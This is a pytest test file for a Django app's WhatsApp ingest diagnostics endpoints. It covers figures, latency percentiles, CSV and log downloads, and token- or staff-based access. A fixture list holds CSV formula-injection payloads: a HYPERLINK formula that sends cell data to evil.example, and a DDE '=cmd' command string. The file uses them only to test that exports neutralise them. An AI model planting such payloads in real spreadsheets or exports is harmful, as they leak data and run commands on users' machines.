"""GET /chat/tools/diagnostics (JSON and CSV) and /chat/tools/diagnostics/log: the figures against a
built state, the latency percentiles, a fixed query count, CSV cells a spreadsheet cannot run,
the downloads' headers, the log lines, and who may read them."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timedelta, timezone as dt_timezone

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from pricehub.cell_safety import FORMULA_STARTS
from whatsapp import counters, diagnostics, events
from whatsapp.models import Chat, IngestEvent, Message

pytestmark = pytest.mark.django_db

JSON_PATH = "/chat/tools/diagnostics"
CSV_PATH = "/chat/tools/diagnostics?format=csv"
LOG_PATH = "/chat/tools/diagnostics/log"
PATHS = [JSON_PATH, CSV_PATH, LOG_PATH]
TOKEN = "ingest-new-token"
NOW = datetime(2026, 11, 30, 12, 0, tzinfo=dt_timezone.utc)
DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2", "@SUM(A1:A2)", "\t=1+2", "\r=cmd",
             "=cmd|' /C calc'!A0"]
S = Message.Extraction


@pytest.fixture
def token(settings):
    settings.WHATSAPP_INGEST_TOKEN = "ingest-old-token, ingest-new-token"
    return TOKEN


def add_message(chat, state=S.PENDING, *, received_at=None, extracted_at=None, edited_at=None, n=[0]):
    n[0] += 1
    message = Message.objects.create(chat=chat, text=f"message {n[0]}", sent_at=NOW, content_hash=f"{n[0]:064x}",
                                     extraction_state=state, extracted_at=extracted_at, edited_at=edited_at)
    if received_at is not None:  # auto_now_add: set after the insert
        Message.objects.filter(pk=message.pk).update(received_at=received_at)
    return message


@pytest.fixture
def state(build):
    """Three chats. "mapped" (vendor Mobile World, seen a minute ago): 2 pending, 3 extracted (2 with
    offers: 2 and 1), 1 no_offers, 1 failed, 1 skipped; first pending 90 s ago. "unmapped" (seen an
    hour ago): 1 pending (no first_pending_at: its oldest pending message's arrival counts), 1
    extracted with 1 offer. "quiet": never seen, no message. Plus an offer from a file (no message),
    and counters that differ from the tables on purpose."""
    vendor = build.vendor("Mobile World")
    mapped = Chat.objects.create(external_id="c-mapped", title="Mapped chat", vendor=vendor,
                                 last_seen_at=NOW - timedelta(minutes=1), first_pending_at=NOW - timedelta(seconds=90),
                                 extract_due_at=NOW + timedelta(seconds=30),
                                 last_extracted_at=NOW - timedelta(minutes=5))
    unmapped = Chat.objects.create(external_id="c-unmapped", title="Unmapped chat",
                                   last_seen_at=NOW - timedelta(hours=1))
    quiet = Chat.objects.create(external_id="c-quiet", title="")
    for _ in range(2):
        add_message(mapped, S.PENDING)
    with_offers = [add_message(mapped, S.EXTRACTED, extracted_at=NOW - timedelta(minutes=5)) for _ in range(3)]
    add_message(mapped, S.NO_OFFERS, extracted_at=NOW - timedelta(minutes=5))
    add_message(mapped, S.FAILED)
    add_message(mapped, S.SKIPPED)
    add_message(unmapped, S.PENDING, received_at=NOW - timedelta(seconds=40))
    unmapped_extracted = add_message(unmapped, S.EXTRACTED, extracted_at=NOW - timedelta(minutes=2))
    for message in (with_offers[0], with_offers[0], with_offers[1], unmapped_extracted):
        build.offer(vendor=vendor, source_message=message, history=False)
    build.offer(vendor=vendor, history=False)  # from a file: no chat's
    counters.add({"accepted": 12, "created": 10, "deduped": 2, "extracted": 7, "errors": 1, "media_failed": 1},
                 chat_id=mapped.pk)
    counters.add({"accepted": 2, "created": 2}, chat_id=unmapped.pk)
    counters.add({"auth_failures": 3, "forbidden": 2, "rate_limited": 4, "signature_failures": 1})
    return mapped, unmapped, quiet


# --------------------------------------------------------------------------- the figures


def test_snapshot_figures_against_the_built_state(state):
    mapped, unmapped, quiet = state

    data = diagnostics.as_json(diagnostics.collect(now=NOW))

    assert data["generated_at"] == "2026-11-30T12:00:00Z"
    assert data["totals"] == {
        "messages": 10, "pending": 3, "extracted": 7, "errors": 1, "offers": 4, "chats": 3, "unmapped_chats": 2,
        "accepted": 14, "created": 12, "deduped": 2, "media_failed": 1, "auth_failures": 3, "forbidden": 2,
        "rate_limited": 4, "signature_failures": 1,
    }
    assert list(data["totals"]) == list(diagnostics.TOTAL_NAMES)
    assert data["chats_total"] == 3 and data["chats_listed_max"] == 500
    assert data["chats"] == [
        {"chat_id": mapped.pk, "chat_title": "Mapped chat", "vendor": "Mobile World", "mapped": True,
         "messages": 8, "pending": 2, "extracted": 4, "offers": 3, "errors": 1,
         "last_extracted_at": "2026-11-30T11:55:00Z", "extract_due_at": "2026-11-30T12:00:30Z", "lag_seconds": 90.0},
        {"chat_id": unmapped.pk, "chat_title": "Unmapped chat", "vendor": None, "mapped": False,
         "messages": 2, "pending": 1, "extracted": 1, "offers": 1, "errors": 0,
         "last_extracted_at": None, "extract_due_at": None, "lag_seconds": 40.0},
        {"chat_id": quiet.pk, "chat_title": "", "vendor": None, "mapped": False,
         "messages": 0, "pending": 0, "extracted": 0, "offers": 0, "errors": 0,
         "last_extracted_at": None, "extract_due_at": None, "lag_seconds": None},
    ]


def test_the_endpoint_answers_the_snapshot(client, state, token):
    response = client.get(JSON_PATH, HTTP_X_INGEST_TOKEN=token)

    assert response.status_code == 200 and response["Content-Type"] == "application/json"
    data = response.json()
    assert set(data) == {"generated_at", "totals", "lag_seconds", "chats_total", "chats_listed_max", "chats"}
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z", data["generated_at"])
    assert data["totals"]["offers"] == 4 and data["totals"]["extracted"] == 7
    assert [chat["chat_title"] for chat in data["chats"]] == ["Mapped chat", "Unmapped chat", ""]
    assert set(data["chats"][0]) == {"chat_id", "chat_title", "vendor", "mapped", "messages", "pending", "extracted",
                                     "offers", "errors", "last_extracted_at", "extract_due_at", "lag_seconds"}


def test_lag_percentiles_of_the_last_hour(build):
    chat = Chat.objects.create(external_id="c-lag", title="Lag")
    lags = [1, 2, 3, 4, 5, 6, 7, 8, 9, 100]  # seconds from arrival to extraction
    for i, lag in enumerate(lags):
        extracted_at = NOW - timedelta(minutes=50) + timedelta(minutes=i)
        add_message(chat, S.EXTRACTED if i % 2 else S.NO_OFFERS, received_at=extracted_at - timedelta(seconds=lag),
                    extracted_at=extracted_at)
    # An edited message: its lag runs from the edit, not from its first arrival.
    add_message(chat, S.EXTRACTED, received_at=NOW - timedelta(days=2), edited_at=NOW - timedelta(seconds=70),
                extracted_at=NOW - timedelta(seconds=65))
    add_message(chat, S.EXTRACTED, received_at=NOW - timedelta(hours=3), extracted_at=NOW - timedelta(hours=2))  # old
    add_message(chat, S.FAILED, received_at=NOW - timedelta(minutes=10), extracted_at=NOW - timedelta(minutes=1))
    add_message(chat, S.PENDING, received_at=NOW - timedelta(minutes=10))

    lag = diagnostics.as_json(diagnostics.collect(now=NOW))["lag_seconds"]

    # 11 samples 1..9, 5 (the edit), 100: nearest rank p50 is the 6th (5), p95 the 11th (100).
    assert lag == {"p50": 5.0, "p95": 100.0, "max": 100.0, "samples": 11}


def test_lag_is_null_without_recent_extractions(build):
    chat = Chat.objects.create(external_id="c-none", title="None")
    add_message(chat, S.PENDING)
    data = diagnostics.as_json(diagnostics.collect(now=NOW))
    assert data["lag_seconds"] == {"p50": None, "p95": None, "max": None, "samples": 0}
    # Pending, no first_pending_at, arrived after NOW (a clock behind): it waited 0 s, never a negative time.
    assert data["chats"][0]["lag_seconds"] == 0.0


def test_percentile_is_nearest_rank():
    assert diagnostics.percentile([], 0.5) is None
    assert diagnostics.percentile([7.0], 0.95) == 7.0
    values = [float(v) for v in range(1, 101)]
    assert diagnostics.percentile(values, 0.50) == 50.0 and diagnostics.percentile(values, 0.95) == 95.0
    assert diagnostics.lag_of([3.0, 1.0, 2.0]) == diagnostics.Lag(p50=2.0, p95=3.0, max=3.0, samples=3)


def test_the_list_of_chats_is_bounded_to_the_most_recently_seen(build):
    chats = [Chat.objects.create(external_id=f"c{i}", title=f"chat {i}", last_seen_at=NOW - timedelta(minutes=i))
             for i in range(4)]
    never = Chat.objects.create(external_id="never", title="never seen")
    snapshot = diagnostics.collect(now=NOW, chats_listed=2)
    assert [chat.chat_id for chat in snapshot.chats] == [chats[0].pk, chats[1].pk]
    assert snapshot.chats_total == 5 == snapshot.totals["chats"]
    assert [chat.chat_id for chat in diagnostics.collect(now=NOW).chats][-1] == never.pk


def _many_chats(build, n: int) -> None:
    vendor = build.vendor()
    for i in range(n):
        chat = Chat.objects.create(external_id=f"q{vendor.pk}-{i}", title=f"chat {i}", vendor=vendor if i % 2 else None,
                                   last_seen_at=NOW - timedelta(seconds=i), first_pending_at=NOW - timedelta(seconds=5))
        add_message(chat, S.PENDING)
        message = add_message(chat, S.EXTRACTED, extracted_at=NOW - timedelta(seconds=1))
        build.offer(vendor=vendor, source_message=message, history=False)
        counters.add({"accepted": 2, "created": 2, "extracted": 1}, chat_id=chat.pk)


@pytest.mark.parametrize("n", [3, 30])
def test_a_snapshot_costs_a_fixed_number_of_queries(build, django_assert_max_num_queries, n):
    _many_chats(build, n)
    with django_assert_max_num_queries(diagnostics.QUERIES):
        snapshot = diagnostics.collect(now=NOW)
    assert len(snapshot.chats) == n and snapshot.totals["offers"] == n
    assert all(chat.offers == 1 and chat.pending == 1 and chat.lag_seconds == 5.0 for chat in snapshot.chats)


def test_the_request_costs_the_same_queries_for_3_and_30_chats(build, client, token):
    def queries() -> dict[str, int]:
        found = {}
        for path in (JSON_PATH, CSV_PATH):
            with CaptureQueriesContext(connection) as captured:
                assert client.get(path, HTTP_X_INGEST_TOKEN=token).status_code == 200
            found[path] = len(captured)
        return found

    _many_chats(build, 3)
    few = queries()
    _many_chats(build, 27)
    many = queries()
    assert few == many
    # The snapshot's queries, and the rate limit's counter in the test database's cache (8 or 9 queries).
    assert all(n <= diagnostics.QUERIES + 9 for n in many.values()), many


def test_no_chat_at_all(db):
    data = diagnostics.as_json(diagnostics.collect(now=NOW))
    assert data["chats"] == [] and data["chats_total"] == 0
    assert all(value == 0 for value in data["totals"].values())


# --------------------------------------------------------------------------- CSV


def parse_csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_csv_has_a_total_row_then_one_row_per_chat(client, state, token):
    mapped, unmapped, quiet = state

    response = client.get(CSV_PATH, HTTP_X_INGEST_TOKEN=token)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="whatsapp-diagnostics-\d{8}T\d{6}Z\.csv"',
                        response["Content-Disposition"])
    assert response["Cache-Control"] == "no-store"
    rows = parse_csv(response)
    header, total, *chats = rows
    assert tuple(header) == diagnostics.CSV_COLUMNS
    assert all(len(row) == len(header) for row in rows)
    total = dict(zip(header, total))
    assert total["chat_id"] == "TOTAL"
    assert {name: total[name] for name in ("messages", "pending", "extracted", "offers", "errors", "chats",
                                           "unmapped_chats", "accepted", "created", "deduped", "media_failed",
                                           "auth_failures", "forbidden", "rate_limited", "signature_failures",
                                           "chats_listed")} == {
        "messages": "10", "pending": "3", "extracted": "7", "offers": "4", "errors": "1", "chats": "3",
        "unmapped_chats": "2", "accepted": "14", "created": "12", "deduped": "2", "media_failed": "1",
        "auth_failures": "3", "forbidden": "2", "rate_limited": "4", "signature_failures": "1",
        "chats_listed": "3",
    }
    # The lag of the last hour by the wall clock (the fixture's times are fixed): numbers, or empty with 0 samples.
    assert total["lag_p50"] == "" if total["lag_samples"] == "0" else float(total["lag_p50"]) >= 0
    assert total["generated_at"].endswith("Z")
    first = dict(zip(header, chats[0]))
    assert first["chat_id"] == str(mapped.pk) and first["chat_title"] == "Mapped chat"
    assert first["vendor"] == "Mobile World" and first["mapped"] == "true"
    assert (first["messages"], first["pending"], first["extracted"], first["offers"], first["errors"]) == \
        ("8", "2", "4", "3", "1")
    assert first["last_extracted_at"] == "2026-11-30T11:55:00Z" and float(first["lag_seconds"]) >= 90
    assert all(first[name] == "" for name in diagnostics.TOTAL_ONLY_COLUMNS)
    last = dict(zip(header, chats[2]))
    assert last["chat_id"] == str(quiet.pk) and last["mapped"] == "false" and last["vendor"] == ""
    assert last["lag_seconds"] == "" and last["last_extracted_at"] == ""
    assert len(chats) == 3


def test_csv_cells_a_spreadsheet_would_run_are_inert(client, staff_client, build):
    for i, title in enumerate(DANGEROUS):
        vendor = build.vendor(f"=evil{i}()") if i % 2 else None
        Chat.objects.create(external_id=f"x{i}", title=title, vendor=vendor, last_seen_at=NOW - timedelta(seconds=i))

    rows = parse_csv(staff_client.get(CSV_PATH))

    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)
    titles = [row[1] for row in rows[2:]]
    assert titles == ["'" + title for title in DANGEROUS]  # shown as the text it is
    assert [row[2] for row in rows[2:] if row[2]] == [f"'=evil{i}()" for i in range(1, len(DANGEROUS), 2)]


def test_csv_and_json_of_a_plain_title_are_unchanged(staff_client, build):
    Chat.objects.create(external_id="plain", title='Deals, "iPhone"\nsecond line', last_seen_at=NOW)
    rows = parse_csv(staff_client.get(CSV_PATH))
    assert rows[2][1] == 'Deals, "iPhone"\nsecond line'
    assert staff_client.get(JSON_PATH).json()["chats"][0]["chat_title"] == 'Deals, "iPhone"\nsecond line'


def test_csv_rows_and_filename():
    snapshot = diagnostics.Snapshot(
        generated_at=datetime(2026, 11, 30, 12, 1, 2, 345678, tzinfo=dt_timezone.utc),
        totals=dict.fromkeys(diagnostics.TOTAL_NAMES, 1), lag=diagnostics.lag_of([]), chats=[], chats_total=0)
    assert diagnostics.csv_filename(snapshot) == "whatsapp-diagnostics-20261130T120102Z.csv"
    [total] = diagnostics.csv_rows(snapshot)
    row = dict(zip(diagnostics.CSV_COLUMNS, total))
    assert row["lag_p50"] == "" and row["lag_samples"] == 0 and row["chats_listed"] == 0


# --------------------------------------------------------------------------- the log


def test_log_download_newest_last_with_escaped_fields(client, token, state):
    mapped = state[0]
    events.record("ingest", "batch of 3 from 'n8n': 2 created, 1 deduped", chat_id=mapped.pk, request_id="r-1")
    events.record("refusal", "401 invalid ingest token: no configured token matches",
                  level=IngestEvent.Level.WARNING, request_id="r-2")
    events.record("extraction", "chat 'Evil\ttitle\nsecond\\line\u2028' failed: x\ry", level=IngestEvent.Level.ERROR,
                  chat_id=mapped.pk)

    response = client.get(LOG_PATH, HTTP_X_INGEST_TOKEN=token)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="whatsapp-diagnostics-log-\d{8}T\d{6}Z\.txt"',
                        response["Content-Disposition"])
    assert response["Cache-Control"] == "no-store"
    text = response.content.decode("utf-8")
    assert text.endswith("\n")
    header, *lines = text.splitlines()
    assert header == "#time_utc\tlevel\tkind\tchat_id\trequest_id\tmessage"
    fields = [line.split("\t") for line in lines]
    assert [len(f) for f in fields] == [6, 6, 6]
    assert [f[1:5] for f in fields] == [["info", "ingest", str(mapped.pk), "r-1"], ["warning", "refusal", "-", "r-2"],
                                       ["error", "extraction", str(mapped.pk), "-"]]
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", f[0]) for f in fields)
    assert fields[0][5] == "batch of 3 from 'n8n': 2 created, 1 deduped"
    assert fields[2][5] == "chat 'Evil\\ttitle\\nsecond\\\\line\\u2028' failed: x\\ry"
    assert token not in text


def test_log_download_is_the_latest_500(staff_client):
    IngestEvent.objects.bulk_create(IngestEvent(kind="ingest", message=f"line {i}") for i in range(510))
    lines = staff_client.get(LOG_PATH).content.decode().splitlines()[1:]
    assert len(lines) == 500
    assert [line.split("\t")[5] for line in (lines[0], lines[-1])] == ["line 10", "line 509"]


def test_log_of_nothing_is_the_header_only(staff_client):
    assert staff_client.get(LOG_PATH).content.decode() == "#" + "\t".join(diagnostics.LOG_FIELDS) + "\n"


def test_log_field():
    assert diagnostics.log_field(None) == "-" and diagnostics.log_field("") == "-" and diagnostics.log_field(7) == "7"
    assert diagnostics.log_field("a\tb\nc\rd\\e\x00f\x85g") == "a\\tb\\nc\\rd\\\\e\\u0000f\\u0085g"
    assert diagnostics.log_field("Prix 750 € — ok") == "Prix 750 € — ok"


# --------------------------------------------------------------------------- access


def _refused(response, status=401) -> dict:
    assert response.status_code == status, response.content
    assert response["Content-Type"] == "application/json" and response["Cache-Control"] == "no-store"
    body = response.json()
    assert set(body) == {"detail"}
    return body


@pytest.mark.parametrize("path", PATHS)
def test_anonymous_is_401_with_the_header_to_send(client, token, path):
    body = _refused(client.get(path))
    assert "X-Ingest-Token" in body["detail"]
    assert client.get(path)["WWW-Authenticate"] == "X-Ingest-Token"


@pytest.mark.parametrize("path", PATHS)
def test_non_staff_session_is_403_and_inactive_staff_401(client, django_user_model, token, path):
    user = django_user_model.objects.create_user("clerk", password="pw-clerk-1234")
    client.force_login(user)
    assert "not staff" in _refused(client.get(path), 403)["detail"]
    assert client.get(path, HTTP_X_INGEST_TOKEN=token).status_code == 200  # the token opens it whoever is signed in
    user.is_staff, user.is_active = True, False
    user.save()
    _refused(client.get(path), 401)


@pytest.mark.parametrize("path", PATHS)
def test_staff_session_and_the_token_are_200(staff_client, client, token, path):
    for response in (staff_client.get(path), client.get(path, HTTP_X_INGEST_TOKEN=token),
                     client.get(path, HTTP_X_INGEST_TOKEN="ingest-old-token")):  # a rotation's older token
        assert response.status_code == 200 and response["Cache-Control"] == "no-store"


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("value", [
    "wrong", "", " ingest-new-token", "ingest-new-token ", "ingest-old-token, ingest-new-token", "INGEST-NEW-TOKEN",
    "t\u00f6k\u00e9n",  # Latin-1 as WSGI hands it over
    "\u0442\u043e\u043a\u0435\u043d",  # not Latin-1: only a test client sends that
    "\udcff", "ingest-new-token\x00",
])
def test_wrong_empty_or_malformed_tokens_are_401_not_500(client, token, path, value):
    body = _refused(client.get(path, HTTP_X_INGEST_TOKEN=value))
    assert "ingest token" in body["detail"] and token not in json.dumps(body)


def test_a_wrong_token_is_401_even_with_a_staff_session(staff_client, token):
    _refused(staff_client.get(JSON_PATH, HTTP_X_INGEST_TOKEN="wrong"))


def test_a_non_ascii_token_is_compared_as_the_utf8_bytes_sent(client, settings):
    settings.WHATSAPP_INGEST_TOKEN = "clé-ingest"
    as_wsgi_hands_it_over = "clé-ingest".encode("utf-8").decode("latin-1")
    assert client.get(JSON_PATH, HTTP_X_INGEST_TOKEN=as_wsgi_hands_it_over).status_code == 200
    _refused(client.get(JSON_PATH, HTTP_X_INGEST_TOKEN="clé-ingest".encode("latin-1").decode("latin-1")))


def test_a_token_is_refused_when_none_is_configured(client, staff_client, settings):
    settings.WHATSAPP_INGEST_TOKEN = ""
    assert "WHATSAPP_INGEST_TOKEN is not set" in _refused(client.get(JSON_PATH, HTTP_X_INGEST_TOKEN="x"))["detail"]
    assert staff_client.get(JSON_PATH).status_code == 200


def test_api_tokens_and_other_tokens_do_not_open_it(token_client, client, token, settings):
    settings.METRICS_TOKEN = "metrics-token"
    _refused(token_client.get(JSON_PATH))
    _refused(client.get(JSON_PATH, HTTP_X_METRICS_TOKEN="metrics-token"))
    _refused(client.get(JSON_PATH, HTTP_AUTHORIZATION=f"Bearer {token}"))


def test_refusals_move_no_ingest_counter_and_log_nothing(client, token):
    client.get(JSON_PATH, HTTP_X_INGEST_TOKEN="wrong")
    client.get(LOG_PATH)
    assert counters.totals()["auth_failures"] == 0 and not IngestEvent.objects.exists()


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("method", ["post", "put", "patch", "delete"])
def test_only_get_and_head(client, token, path, method):
    for headers in ({}, {"HTTP_X_INGEST_TOKEN": token}):
        response = getattr(client, method)(path, **headers)
        assert response.status_code == 405 and response["Allow"] == "GET, HEAD"
        assert response["Content-Type"] == "application/json"


@pytest.mark.parametrize("path", PATHS)
def test_head_answers_the_headers_only(client, token, path):
    response = client.head(path, HTTP_X_INGEST_TOKEN=token)
    assert response.status_code == 200 and response.content == b""
    assert response["Cache-Control"] == "no-store"
    assert client.head(path).status_code == 401


def test_bad_parameters_are_400_in_json(staff_client):
    response = staff_client.get(CSV_PATH + "&verbose=1")
    assert response.status_code == 400 and "verbose" in response.json()["detail"]
    response = staff_client.get(JSON_PATH + "?format=xml")
    assert response.status_code == 400 and "csv" in response.json()["format"][0]
    assert staff_client.get(LOG_PATH + "?format=json").status_code == 400
    assert staff_client.get(JSON_PATH + "?format=json").status_code == 200


def test_accept_header_choices(staff_client):
    assert staff_client.get(JSON_PATH, HTTP_ACCEPT="text/csv")["Content-Type"] == "text/csv; charset=utf-8"
    for accept in ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "application/xml", ""):
        assert staff_client.get(JSON_PATH, HTTP_ACCEPT=accept)["Content-Type"] == "application/json", accept
    assert staff_client.get(LOG_PATH, HTTP_ACCEPT="application/json").status_code == 200


def test_the_json_endpoint_is_in_the_openapi_schema(staff_client):
    schema = staff_client.get("/api/schema", HTTP_ACCEPT="application/json").json()
    operation = schema["paths"]["/chat/tools/diagnostics"]["get"]
    assert set(operation["responses"]["200"]["content"]) == {"application/json", "text/csv"}
    assert {"401", "403"} <= set(operation["responses"])
    assert schema["components"]["securitySchemes"]["whatsappIngestToken"] == {
        "type": "apiKey", "in": "header", "name": "X-Ingest-Token",
        "description": schema["components"]["securitySchemes"]["whatsappIngestToken"]["description"]}
    totals = schema["components"]["schemas"]["WhatsAppDiagnosticsTotals"]["properties"]
    assert set(totals) == set(diagnostics.TOTAL_NAMES)
